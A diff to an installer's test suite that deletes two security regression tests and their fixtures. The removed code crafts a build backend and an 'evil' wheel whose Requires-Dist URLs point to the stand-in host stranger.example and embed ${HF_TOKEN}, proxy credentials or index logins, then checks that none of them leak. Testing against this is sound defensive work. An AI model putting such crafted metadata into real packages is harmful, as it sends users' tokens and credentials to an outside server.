@@ -6,7 +6,6 @@ from __future__ import annotations
 
 import os
 import re
-import zipfile
 from collections.abc import Callable, Iterator, Mapping
 from pathlib import Path
 from typing import NamedTuple
@@ -24,9 +23,8 @@ from gpuinstall.lock.request.strangers import check_hosts
 from gpuinstall.project import Settings, open_project
 from gpuinstall.sources.configuration import TRUST_FOLDER
 from gpuinstall.sources.session import Session
-from tests.hostile.test_addresses import TOKEN, WHERE, Stranger
+from tests.hostile.test_addresses import TOKEN, Stranger
 from tests.lab.driver import NO_GPU
-from tests.lab.host import Answer
 
 HOST = "stranger.example"
 WHEEL = "filelock-3.0-py3-none-any.whl"
@@ -883,19 +881,6 @@ def stranger(stand_in) -> Iterator[Stranger]:
     stranger.close()
 
 
-BUILD = f"""import os
-def prepare_metadata_for_build_wheel(folder, settings=None):
-    place = os.path.join(folder, "lib-1.dist-info")
-    os.mkdir(place)
-    for name, text in {{"METADATA": "Metadata-Version: 2.1\\nName: lib\\nVersion: 1\\nRequires-Dist: {WHERE}\\n",
-                        "WHEEL": "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"}}.items():
-        with open(os.path.join(place, name), "w") as file:
-            file.write(text)
-    return "lib-1.dist-info"
-"""
-BACKEND = '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n'
-
-
 @pytest.mark.heavy
 @pytest.mark.parametrize("slashes", ["", "/"])
 def test_a_host_in_a_lock_is_refused_without_trust(here, stranger, slashes):
@@ -927,56 +912,3 @@ def test_an_index_of_a_project_in_the_folder_is_named_by_marker_too(
     done = here.run("lock", "-q", "--target", "cpu")
 
     assert stranger.log == [] or " says" in done.err
-
-
-@pytest.mark.heavy
-def test_no_variable_in_what_a_build_requires_is_sent(here, stranger):
-    name = stranger.wheel.rpartition("/")[2]
-    required = f"filelock @ {stranger.url}/${{HF_TOKEN}}/{name}"
-    files = {
-        "requirements.txt": "torch\n./lib\n",
-        "lib/pyproject.toml": BACKEND,
-        "lib/b.py": BUILD.replace(WHERE, required),
-    }
-    write(here.folder, files)
-
-    done = here.run("lock", "-q", "--target", "cpu")
-
-    assert [one.path for one in stranger.log if TOKEN in one.path] == []
-    assert TOKEN not in done.err
-
-
-@pytest.mark.heavy
-@pytest.mark.parametrize("variable", ["UV_DEFAULT_INDEX", "HTTPS_PROXY", "HOME"])
-def test_no_variable_in_what_a_wheel_requires_is_sent(
-    here, stranger, tmp_path, variable
-):
-    wheel = tmp_path / "evil-1-py3-none-any.whl"
-    required = f"filelock @ {stranger.wheel}?x=${{{variable}}}"
-    texts = {
-        "METADATA": f"Metadata-Version: 2.1\nName: evil\nVersion: 1\nRequires-Dist: {required}\n",
-        "WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
-        "RECORD": "",
-    }
-    with zipfile.ZipFile(wheel, "w") as archive:
-        for name, text in texts.items():
-            archive.writestr(f"evil-1.dist-info/{name}", text)
-    respond = stranger.respond
-
-    def answer(path, headers):
-        if path.endswith(wheel.name):
-            return Answer(body=wheel.read_bytes())
-        return respond(path.partition("?")[0], headers)
-
-    stranger.respond = answer
-    line = f"evil @ {stranger.url}/{wheel.name}"
-    write(here.folder, {"requirements.txt": f"torch\n{line}\n"})
-    index = here.environment["UV_DEFAULT_INDEX"].replace("://", f"://me:{LOGIN}@")
-    values = {
-        "UV_DEFAULT_INDEX": index,
-        "HTTPS_PROXY": f"http://me:{LOGIN}@127.0.0.1:9",
-    }
-
-    here.having(HOME=f"/{LOGIN}", **values).run("lock", "-q", "--target", "cpu")
-
-    assert [one.path for one in stranger.log if LOGIN in one.path] == []
